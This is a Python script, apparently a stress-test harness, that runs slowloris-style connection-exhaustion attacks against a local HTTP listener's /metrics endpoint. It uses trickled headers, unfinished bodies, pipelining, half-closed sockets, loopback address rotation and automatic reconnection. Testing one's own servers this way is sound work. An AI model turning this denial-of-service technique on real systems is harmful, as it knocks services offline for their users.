"""Attacks a listener. Run as a program: attack.py PORT KINDS [ADDRESSES], for instance `attack.py 9847 half=10000,post=16`.

Comes from 127.0.0.1, or from as many addresses as asked for: 127.1.0.1, 127.1.0.2 and so on.

Prints "open" when all connections were opened once. A connection that the server ends is opened again, so that as many as asked for
are open or being opened all the time. Ends when its standard input ends.
"""

import itertools
import os
import random
import resource
import select
import socket
import struct
import sys
import time

BODY = b"Content-Length: 1000000000\r\n\r\n"
HEAD = b"/metrics HTTP/1.1\r\nHost: x\r\n"
# What each kind sends at once, and what it sends each second.
KINDS = {
    "half": (b"GET " + HEAD + b"X-Half: ", b""),
    "trickled_head": (b"GET " + HEAD, b"X: y\r\n"),
    "post": (b"POST " + HEAD + BODY, b"x"),
    "get_with_body": (b"GET " + HEAD + BODY, b"x"),
    "chunked": (b"GET " + HEAD + b"Transfer-Encoding: chunked\r\n\r\n3b9aca00\r\n", b"x"),
    "connect": (b"", b""),
    "reads_nothing": (b"GET " + HEAD + b"\r\n", b""),
    "pipelined": (b"GET " + HEAD + b"\r\n" + (b"GET " + HEAD + b"\r\n") * 50, b"GET " + HEAD + b"\r\n"),
    "half_closed": (b"GET /metrics HTT", b""),
    "noise": (bytes(range(256)) * 8, b"\0"),
}


class Attack:
    def __init__(self, port, kinds, addresses):
        self.port = port
        self.sources = itertools.cycle([f"127.1.{number // 250}.{number % 250 + 1}" for number in range(addresses)] or [""])
        self.epoll = select.epoll()
        self.sockets = {}
        self.waiting = [kind for kind, count in kinds for _ in range(count)]
        random.Random(1).shuffle(self.waiting)

    def open(self, kind):
        made = socket.socket()
        made.setblocking(False)
        made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # leaves no port in TIME_WAIT
        if kind == "reads_nothing":
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        try:
            if source := next(self.sources):
                made.bind((source, 0))
            made.connect(("127.0.0.1", self.port))
        except BlockingIOError:
            pass
        except OSError:  # no port is left at the moment
            made.close()
            self.waiting.append(kind)
            return
        self.sockets[made.fileno()] = (made, kind)
        self.epoll.register(made.fileno(), select.EPOLLOUT | select.EPOLLRDHUP | select.EPOLLONESHOT)

    def close(self, number):
        made, kind = self.sockets.pop(number)
        made.close()
        self.waiting.append(kind)

    def happened(self, number, events):
        made, kind = self.sockets[number]
        if events & (select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP):
            return self.close(number)
        try:
            made.send(KINDS[kind][0])
            if kind == "half_closed":
                made.shutdown(socket.SHUT_WR)
        except OSError:
            return self.close(number)
        self.epoll.modify(number, select.EPOLLRDHUP if kind != "half_closed" else 0)

    def trickle(self):
        for number, (made, kind) in list(self.sockets.items()):
            if KINDS[kind][1]:
                try:
                    made.send(KINDS[kind][1])
                except OSError:
                    self.close(number)

    def run(self):
        said, trickled = False, time.monotonic()
        while not select.select([sys.stdin], [], [], 0)[0]:
            for _ in range(min(200, len(self.waiting))):
                self.open(self.waiting.pop(0))
            if not said and not self.waiting:
                said = True
            for number, events in self.epoll.poll(0.01, 512):
                if number in self.sockets:
                    self.happened(number, events)
            if time.monotonic() - trickled > 1:
                self.trickle()
                trickled = time.monotonic()
                print(f"open {len(self.sockets)}", flush=True)


def main():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.nice(5)  # an attacker's processor is not the server's
    kinds = [(kind, int(count)) for kind, _, count in (one.partition("=") for one in sys.argv[2].split(","))]
    addresses = int(sys.argv[3]) if len(sys.argv) > 3 else 0
    Attack(int(sys.argv[1]), kinds, addresses).run()


if __name__ == "__main__":
    main()
